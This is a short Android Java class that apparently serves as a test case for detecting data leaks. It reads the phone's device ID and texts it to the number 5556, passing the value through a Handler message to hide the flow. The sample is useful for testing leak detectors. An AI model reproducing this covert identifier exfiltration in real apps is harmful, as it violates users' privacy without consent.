package org.brookside.flows;

import android.app.*;
import android.content.*;
import android.database.Cursor;
import android.net.Uri;
import android.os.*;
import android.telephony.*;
import android.util.Log;
import android.view.View;
import android.widget.*;
import java.io.*;
import java.net.*;
import java.util.*;

/** In a message to a handler. */
public class Messaged extends Case {
    static class Post extends Handler { @Override public void handleMessage(Message m) { SmsManager.getDefault().sendTextMessage("5556", null, (String) m.obj, null, null); } }
    @Override protected void onCreate(Bundle s) {
        super.onCreate(s);
        Message m = Message.obtain();
        m.obj = ((TelephonyManager) getSystemService(TELEPHONY_SERVICE)).getDeviceId();
        new Post().sendMessage(m);
    }
}
